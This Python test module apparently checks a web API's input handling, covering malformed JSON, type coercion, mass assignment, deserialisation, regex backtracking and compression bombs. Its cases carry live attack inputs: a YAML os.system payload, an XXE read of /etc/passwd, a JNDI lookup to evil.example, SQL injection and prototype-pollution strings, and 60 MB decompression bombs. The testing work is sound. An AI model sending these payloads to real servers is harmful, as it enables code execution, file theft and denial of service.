"""What an attacker sends as a value: JSON and numbers that are none, fields that are nobody's business, and far too much."""

import gzip
import json
import pickle
import zlib

import brotli
import zstandard

from .kit import Case, Outcome, both, chunked, cut, either, get, post, refused, says, status

_NO_JSON = [
    "",
    " ",
    "{",
    "}",
    "[",
    '{"name":}',
    '{"name":"a"',
    "{'name':'a'}",
    '{"name":"a",}',
    "{name:1}",
    '{"name":"a"}}',
    '{"name":"a"} x',
    '{"name":"\\x"}',
    '{"name":"\\ud800"}',
    '{"name":"\\udc00\\ud800"}',
    '{"name":"a\nb"}',
    '{"name":"\x00"}',
    '{"name":"\x1f"}',
    b'{"name":"\xff"}',
    b'{"name":"\xc0\xaf"}',
    b'{"name":"\xed\xa0\x80"}',
    b"\xef\xbb\xbf" + b'{"name":"a"}',
    '{"name":"a"}'.encode("utf-16"),
    '{"name":"a"}'.encode("utf-32"),
    '// a\n{"name":"a"}',
    '{"name":"a","price":NaN}',
    '{"name":"a","price":Infinity}',
    '{"name":"a","price":-Infinity}',
    '{"name":"a","price":1e999}',
    '{"name":"a","price":.5}',
    '{"name":"a","price":+1}',
    '{"name":"a","price":0x10}',
    '{"name":"a","count":01}',
    '{"name":"a","price":1.}',
    '{"name":"a","price":1e}',
    "true",
    "null",
    "1",
    '"a"',
    "[]",
    '[{"name":"a"}]',
    '{"name":"a","count":' + "9" * 5000 + "}",
    '{"name":"a","price":1' + "0" * 5000 + "}",
    '{"name":"a","price":1e-' + "9" * 5000 + "}",
]
_ZERO = {'{"name":"a","price":1e-' + "9" * 5000 + "}"}
JSON = [
    *(
        Case("json", repr(body[:40]), post("/item", body), status(200, 422) if body in _ZERO else status(422))
        for body in _NO_JSON
    ),
    Case("json", "the last of two equal keys counts", post("/item", '{"name":"a","name":"b"}'), says('"name":"b"')),
    Case("json", "equal keys, one escaped", post("/item", '{"name":"a","n\\u0061me":"b"}'), says('"name":"b"')),
    *(
        Case("json", f"{depth} brackets", post("/any", '{"a":' * depth + "1" + "}" * depth), status(422))
        for depth in (65, 1000, 100_000)
    ),
    Case("json", "100,000 open brackets", post("/any", "[" * 100_000), status(422)),
    Case("json", "100,000 brackets in a text are no depth", post("/any", '{"a":"' + "[" * 100_000 + '"}'), status(200)),
    Case("json", "a million commas", post("/any", '{"a":[' + "," * 1_000_000 + "]}"), status(422)),
    Case("json", "a hundred thousand keys", post("/any", json.dumps({str(number): 0 for number in range(100_000)})), status(200)),
    Case("json", "a hundred thousand escapes", post("/any", '{"a":"' + "\\u0041" * 100_000 + '"}'), status(200)),
    Case("json", "another type", post("/item", '{"name":"a"}', kind="text/plain"), status(422)),
    Case(
        "json",
        "a type that a form of another site can send",
        post("/item", '{"name":"a"}', kind="application/x-www-form-urlencoded"),
        status(422),
    ),
    Case("json", "no type", get("/item", "Content-Length: 12", method="POST") + b'{"name":"a"}', status(422)),
    Case(
        "json",
        "a charset that nobody reads",
        post("/item", '{"name":"a"}', kind="application/json; charset=utf-7"),
        either(status(422), says('"name":"a"')),
    ),
    Case(
        "json",
        "a lone surrogate comes back as an error, not a failure",
        post("/item", '{"name":1,"price":"\\ud800"}'),
        status(422),
    ),
]

# What Pydantic takes for an integer besides its digits.
_LOOSE = {"1.0": '"number":1,', "1_000": '"number":1000,'}
_INTEGERS = [
    "1.0",
    "1.5",
    "1e3",
    "0x10",
    "0b1",
    "1_000",
    "\u0661",
    "\uff11",
    "\u00b2",
    "\u0bf0",
    "\x001",
    "--1",
    "1-",
    "NaN",
    "inf",
    "true",
    "null",
    "",
    "[]",
    "9" * 5000,
    "-" + "9" * 5000,
    "1%2b1",
    "1;2",
    "1,2",
    "1%00",
    "'1'",
    "1' OR '1'='1",
]
COERCION = [
    *(
        Case(
            "coercion",
            f"an integer {text[:20]!r} in a path",
            get(f"/item/{_quote}"),
            either(status(307, 404, 422), says(_LOOSE.get(text, "never"))),
        )
        for text in _INTEGERS
        for _quote in ["".join(f"%{byte:02x}" for byte in text.encode()) if "%" not in text else text]
    ),
    *(
        Case("coercion", f"a page {text!r}", get(f"/item/1?page={text}"), status(422))
        for text in ["1.5", "x", "0x10", "1e999", "NaN", "9" * 5000, "1;2", "%00"]
    ),
    *(
        Case("coercion", f"a ratio {text!r}", get(f"/item/1?ratio={text}"), status(422))
        for text in ["NaN", "inf", "-Infinity", "1e999", "-1e999", "0x1p3", "1,5", "", "9" * 400 + "e400"]
    ),
    *(
        Case("coercion", f"a flag {text!r}", get(f"/item/1?flag={text}"), status(422))
        for text in ["2", "maybe", "-1", "truee", "%00", "null", "[]"]
    ),
    *(
        Case("coercion", f"{body}", post("/item", body), status(422))
        for body in [
            '{"name":1}',
            '{"name":null}',
            '{"name":["a"]}',
            '{"name":{"$ne":1}}',
            '{"name":true}',
            '{"name":"a","price":"x"}',
            '{"name":"a","price":[1]}',
            '{"name":"a","price":{}}',
            '{"name":"a","count":1.5}',
            '{"name":"a","count":"1.5"}',
            '{"name":"a","count":-1}',
            '{"name":"a","count":null}',
            '{"name":"a","kind":"other"}',
            '{"name":"a","kind":["gift"]}',
            '{"name":"a","price":"NaN"}',
            '{"name":"a","price":"Infinity"}',
            '{"name":"a","price":"1e999"}',
        ]
    ),
    Case("coercion", "a name that is too long", post("/item", json.dumps({"name": "a" * 51})), status(422)),
    Case("coercion", "letters count, not bytes", post("/item", json.dumps({"name": "\U0001f600" * 50})), status(200)),
]


def _hides(outcome: Outcome) -> bool:
    """A good answer in which nothing is that the client may not see or set."""
    first = outcome.replies[0]
    return first.status == 200 and b"admin" not in first.body and b"password" not in first.body


MASS_ASSIGN = [
    *(
        Case("mass-assign", extra, post("/profile", '{"name":"a",' + extra + "}"), _hides)
        for extra in [
            '"is_admin":true',
            '"isAdmin":true',
            '"role":"admin"',
            '"password_hash":"x"',
            '"__class__":"Admin"',
            '"__proto__":{"is_admin":true}',
            '"constructor":{"prototype":{"is_admin":true}}',
            '"is_admin":"true"',
            '"user.is_admin":true',
            '"user[is_admin]":true',
            '"model_config":{"extra":"allow"}',
            '"__dict__":{"is_admin":true}',
            '"model_fields_set":["is_admin"]',
            '"email":"a","is_admin":1',
        ]
    ),
    Case("mass-assign", "in the query", post("/profile?is_admin=true", '{"name":"a"}'), _hides),
    Case("mass-assign", "in a header", post("/profile", '{"name":"a"}', "is-admin: true", "X-Is-Admin: true"), _hides),
    Case("mass-assign", "in a cookie", post("/profile", '{"name":"a"}', "Cookie: is_admin=true"), _hides),
    Case("mass-assign", "of the session", get("/me?is_admin=true", "Cookie: is_admin=true"), says('"is_admin":false')),
]

_PICKLE = pickle.dumps({"name": "a"})
DESERIALISE = [
    *(
        Case("deserialise", f"{kind}", post("/item", body, kind=kind), either(status(422), status(415)))
        for kind, body in [
            ("application/x-pickle", _PICKLE),
            ("application/python-pickle", _PICKLE),
            ("application/json", _PICKLE),
            ("application/yaml", "!!python/object/apply:os.system ['id']"),
            ("text/yaml", "name: a"),
            ("application/xml", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
            ("text/xml", "<a/>"),
            ("application/x-java-serialized-object", b"\xac\xed\x00\x05"),
            ("application/msgpack", b"\x81\xa4name\xa1a"),
            ("application/x-msgpack", b"\x81\xa4name\xa1a"),
            ("application/cbor", b"\xa1\x64name\x61a"),
            ("application/bson", b"\x05\x00\x00\x00\x00"),
            ("application/x-protobuf", b"\x0a\x01a"),
            ("application/x-www-form-urlencoded", "name=a"),
        ]
    ),
    *(
        Case(
            "deserialise",
            value[:40],
            post("/any", value),
            both(status(200), lambda outcome, value=value: json.loads(outcome.replies[0].body) == json.loads(value)),
        )
        for value in [
            '{"py/object":"os.system","py/reduce":["id"]}',
            '{"__reduce__":["os.system",["id"]]}',
            '{"$type":"System.Diagnostics.Process"}',
            '{"@type":"java.lang.Runtime"}',
            '{"__class__":"subprocess.Popen","args":["id"]}',
            '{"!!python/object/new":"os.system"}',
            '{"a":"{{7*7}}"}',
            '{"a":"${7*7}"}',
            '{"a":"{0.__class__}"}',
            '{"a":"%(name)s %s"}',
            '{"a":"${jndi:ldap://evil.example/a}"}',
        ]
    ),
]

_MANY = 60_000
REDOS = [
    Case("redos", "a pattern that backtracks", post("/shape", json.dumps({"slug": "a" * 50_000 + "!"})), status(422)),
    *(
        Case("redos", f"{name} of {text[:6]!r}", get("/search", f"{name}: {text}"), status(200, 400, 431))
        for name in [
            "Accept",
            "Accept-Encoding",
            "Accept-Language",
            "Cookie",
            "Range",
            "If-None-Match",
            "If-Modified-Since",
            "Forwarded",
            "X-Forwarded-For",
            "Authorization",
            "Origin",
            "User-Agent",
            "X-Request-ID",
            "Content-Disposition",
        ]
        for text in [" " * _MANY + "x", "," * _MANY, "a/" * (_MANY // 2), '"\\' * (_MANY // 2), ";q=" * (_MANY // 3)]
    ),
    *(
        Case("redos", f"a content type of {kind[:24]!r}", post("/upload", "--B--", kind=kind), refused)
        for kind in [
            "multipart/form-data; boundary=" + "B" * 50_000,
            "multipart/form-data;" + " " * 50_000 + "boundary=B",
            "multipart/form-data" + ";a=b" * 12_000,
            'multipart/form-data; boundary="' + "\\" * 50_000,
            "application/x-www-form-urlencoded" + ";" * 50_000,
            "/" * 50_000,
        ]
    ),
    *(
        Case(
            "redos", f"If-None-Match on a file: {text[:8]!r}", get("/files/page.html", f"If-None-Match: {text}"), status(200, 304)
        )
        for text in ['"' * _MANY, 'W/"' * 20_000, '"a",' * 15_000, "*" * _MANY]
    ),
    *(
        Case("redos", f"Range on a file: {text[:8]!r}", get("/files/page.html", f"Range: {text}"), status(200, 206, 416))
        for text in [
            "bytes=" + "0-1," * 15_000,
            "bytes=" + "-" * _MANY,
            "bytes=" + "9" * _MANY + "-",
            "bytes=" + " " * _MANY,
            "bytes" + "=" * _MANY,
        ]
    ),
    Case("redos", "a query of one name 60,000 bytes long", get("/search?" + "%" * 30_000), status(200, 414, 400)),
    Case("redos", "a query of equals signs", get("/search?" + "=" * 30_000), status(200, 400)),
    Case("redos", "a path of slashes", get("/" * 30_000), status(404, 414)),
    Case("redos", "a path of dots", get("/files/" + "../" * 10_000), refused),
    Case("redos", "a path of parameters", get("/tail/" + "%2e%2e/" * 5_000), status(200, 414)),
]

_ZEROS = b"\0" * 60_000_000
_PACKERS = {
    "gzip": gzip.compress,
    "deflate": zlib.compress,
    "br": lambda data: brotli.compress(data, quality=1),
    "zstd": zstandard.compress,
}
_QUINE_LIKE = gzip.compress(gzip.compress(_ZEROS[:1_000_000]))
BOMBS = [
    *(
        Case("bombs", f"60 MB in {coding}", post("/packed", pack(_ZEROS), f"Content-Encoding: {coding}"), cut)
        for coding, pack in _PACKERS.items()
    ),
    *(
        Case(
            "bombs",
            f"60 MB in {coding}, in chunks",
            chunked(b"%x\r\n" % len(data) + data + b"\r\n0\r\n\r\n", f"Content-Encoding: {coding}", target="/packed"),
            cut,
        )
        for coding, pack in _PACKERS.items()
        for data in [pack(_ZEROS)]
    ),
    *(
        Case(
            "bombs", f"small text in {coding}", post("/packed", pack(b"hello" * 100), f"Content-Encoding: {coding}"), says("500")
        )
        for coding, pack in _PACKERS.items()
    ),
    *(
        Case("bombs", f"half of {coding}", post("/packed", pack(b"hello" * 100)[:-3], f"Content-Encoding: {coding}"), status(400))
        for coding, pack in _PACKERS.items()
    ),
    *(
        Case("bombs", f"nonsense as {coding}", post("/packed", b"nonsense" * 50, f"Content-Encoding: {coding}"), status(400))
        for coding in _PACKERS
    ),
    Case("bombs", "gzip twice is unpacked once", post("/packed", _QUINE_LIKE, "Content-Encoding: gzip"), status(200)),
    Case("bombs", "two codings", post("/packed", _QUINE_LIKE, "Content-Encoding: gzip, gzip"), status(415)),
    Case(
        "bombs",
        "two lines of codings",
        post("/packed", _QUINE_LIKE, "Content-Encoding: gzip", "Content-Encoding: gzip"),
        status(415),
    ),
    Case("bombs", "an unknown coding", post("/packed", "a", "Content-Encoding: lzma"), status(415)),
    Case("bombs", "where nobody unpacks", post("/item", gzip.compress(b'{"name":"a"}'), "Content-Encoding: gzip"), status(415)),
    Case(
        "bombs",
        "a form where nobody unpacks",
        post("/upload", gzip.compress(b"--B--"), "Content-Encoding: gzip", kind="multipart/form-data; boundary=B"),
        status(415),
    ),
    Case(
        "bombs",
        "100,000 members of nothing",
        post("/packed", gzip.compress(b"") * 100_000, "Content-Encoding: gzip"),
        status(400),
    ),
    Case("bombs", "a body larger than its limit", post("/echo", b"a" * 10_500_000), cut),
    Case("bombs", "a length larger than the limit", get("/echo", "Content-Length: 999999999999", method="POST"), cut, also=b""),
    Case(
        "bombs",
        "100,000 parts",
        post(
            "/upload",
            b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n' * 100_000 + b"--B--\r\n",
            kind="multipart/form-data; boundary=B",
        ),
        refused,
    ),
    Case("bombs", "100,000 fields", post("/upload", "a=b&" * 100_000, kind="application/x-www-form-urlencoded"), refused),
    Case("logs", "a line break in a path that is refused", get("/tail/a%0AFORGED?" + "a&" * 5_000), status(400)),
    Case("bombs", "100,000 query parameters", get("/search?" + "a&" * 20_000), status(400, 414)),
    Case(
        "bombs",
        "a part with 100 kB of headers",
        post("/upload", b"--B\r\nX: " + b"a" * 100_000 + b"\r\n\r\n\r\n--B--\r\n", kind="multipart/form-data; boundary=B"),
        refused,
    ),
    Case(
        "bombs",
        "a part without an end",
        post(
            "/upload",
            b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + b"a" * 100_000,
            kind="multipart/form-data; boundary=B",
        ),
        refused,
    ),
    Case(
        "bombs",
        "almost boundaries",
        post(
            "/upload",
            b'--B\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + b"\r\n--" * 500_000 + b"\r\n--B--\r\n",
            kind="multipart/form-data; boundary=B",
        ),
        status(200),
    ),
]

CASES = [*JSON, *COERCION, *MASS_ASSIGN, *DESERIALISE, *REDOS, *BOMBS]
